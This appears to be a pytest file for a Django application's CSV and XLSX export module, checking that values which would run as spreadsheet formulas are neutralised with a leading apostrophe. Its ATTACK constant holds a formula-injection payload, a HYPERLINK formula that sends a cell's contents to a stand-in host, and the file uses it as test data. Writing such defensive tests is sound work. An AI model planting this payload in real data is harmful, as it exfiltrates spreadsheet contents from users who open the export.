"""One export mechanism: declared tables, French headers, and no formula ever reaches a spreadsheet."""

import csv
import io
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from maillage.kernel.exports import Column, Table, safe_cell, tabular_response
from maillage.observatory import import_files
from maillage.observatory.importers.store import ImportReport
from tests.companies.factories import EstablishmentFactory

ATTACK = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'


@pytest.mark.parametrize("text", ["=1+1", "+33 6 00 00 00 00", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_texts_a_spreadsheet_would_run_are_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Usine Lambda", "", None, 12, -4, 3.5, "a=b"])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


def test_a_declared_table_reads_paths_methods_and_functions():
    table = Table(
        "x",
        "X",
        [
            Column("Nom", "name"),
            Column("Commune", "commune.name"),
            Column("Libellé", "label"),
            Column("Double", lambda o: o.n * 2, format=str),
            Column("Vide", "commune.missing.deeper"),
        ],
    )
    row = SimpleNamespace(name="=cmd", commune=SimpleNamespace(name="Évreux", missing=None), label=lambda: "ok", n=2)
    assert table.headers == ["Nom", "Commune", "Libellé", "Double", "Vide"]
    assert list(table.rows([row])) == [["=cmd", "Évreux", "ok", "4", None]]
    body = table.response("csv", [row]).content.decode("utf-8-sig")
    assert body.splitlines()[1] == "'=cmd;Évreux;ok;4;"


def test_xlsx_cells_are_text_never_formulas():
    response = tabular_response("xlsx", "x", "X", ["Nom"], [[ATTACK], ["=1+1"]])
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in sheet["A"][1:]] == ["'" + ATTACK, "'=1+1"]
    assert all(cell.data_type == "s" for cell in sheet["A"])


@pytest.mark.django_db
def test_a_company_named_like_a_formula_is_exported_neutralised(client, charge_mission):
    """Regression (issue #10): a company name ``=HYPERLINK(...)`` reached the CSV and XLSX as is."""
    EstablishmentFactory(name=ATTACK)
    client.force_login(charge_mission)
    url = reverse("companies:establishment_list")
    body = client.get(url, {"export": "csv"}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[1][1] == "'" + ATTACK
    workbook = load_workbook(io.BytesIO(client.get(url, {"export": "xlsx"}).content))
    names = list(workbook.active["B"][1:])
    assert [cell.value for cell in names] == ["'" + ATTACK] and names[0].data_type == "s"


def test_a_table_reads_tuples_by_index_and_dicts_by_key_and_names_one_file():
    assert list(Table("t", "T", [Column("A", 0), Column("B", 1)]).rows([("Heures", 12.5)])) == [["Heures", 12.5]]
    assert list(Table("t", "T", [Column("Taux", "rate")]).rows([{"rate": 0.25}, {}])) == [[0.25], [None]]
    response = Table("b", "B", [Column("A", 0)]).response("xlsx", [("x",)], filename="bilan-2025", title="Bilan 2025")
    assert response["Content-Disposition"] == 'attachment; filename="bilan-2025.xlsx"'
    assert load_workbook(io.BytesIO(response.content)).active.title == "Bilan 2025"


@pytest.mark.django_db
def test_an_observatory_import_error_is_neutralised_in_the_error_file(client, charge_mission):
    """Regression: the observatory's import-error file wrote each message as is (its own ``csv.writer``),
    so a value quoted in an error could run as a formula in the analyst's spreadsheet."""
    client.force_login(charge_mission)
    report = ImportReport(key="f", dry_run=True)
    report.error(3, "=1+1 n'est pas un code INSEE")
    token = import_files.save_report(report, "f.csv")
    session = client.session
    session["observatory_import_errors"] = token
    session.save()
    body = b"".join(client.get(reverse("observatory:import_errors")).streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body), delimiter=";")) == [
        ["ligne", "erreur"],
        ["3", "'=1+1 n'est pas un code INSEE"],
    ]


def test_a_streamed_csv_is_the_same_file_sent_by_chunks(settings):
    from maillage.kernel import exports

    settings.MAILLAGE_CSV_DECIMAL_COMMA = True
    rows = [[n, f"=ligne {n}", 1.5 * n] for n in range(2500)]
    whole = exports.csv_response("f", ["n", "texte", "valeur"], rows)
    streamed = exports.csv_streaming_response("f", ["n", "texte", "valeur"], iter(rows))
    chunks = list(streamed.streaming_content)
    assert len(chunks) == 3 and b"".join(chunks) == whole.content
    assert streamed["Content-Disposition"] == whole["Content-Disposition"]
